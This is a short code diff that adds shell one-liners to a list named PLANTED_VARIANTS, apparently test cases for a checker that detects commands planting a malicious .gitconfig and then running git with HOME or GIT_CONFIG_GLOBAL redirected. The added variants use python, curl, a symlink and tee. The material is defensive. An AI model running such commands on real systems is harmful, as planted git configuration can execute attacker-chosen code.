@@ -225,6 +225,10 @@ PLANTED_VARIANTS = [
     "printf x > /srv/h/.gitconfig && cd /srv/h && HOME=. git status",
     "sh -c 'printf x > /srv/h/.gitconfig && HOME=/srv/h git status'",
     "cp /srv/planted /srv/h/.gitconfig && HOME=/srv/h git diff",
+    "python3 -c \"open('/srv/h/.gitconfig','a').close()\" && HOME=/srv/h git status",
+    "curl -o /srv/h/.gitconfig http://x/ && HOME=/srv/h git log",
+    "ln -s /srv/planted /srv/h/.gitconfig; HOME=/srv/h git status",
+    "tee /srv/h/.gitconfig < /srv/planted && GIT_CONFIG_GLOBAL=/srv/h/.gitconfig git status",
 ]
 
 
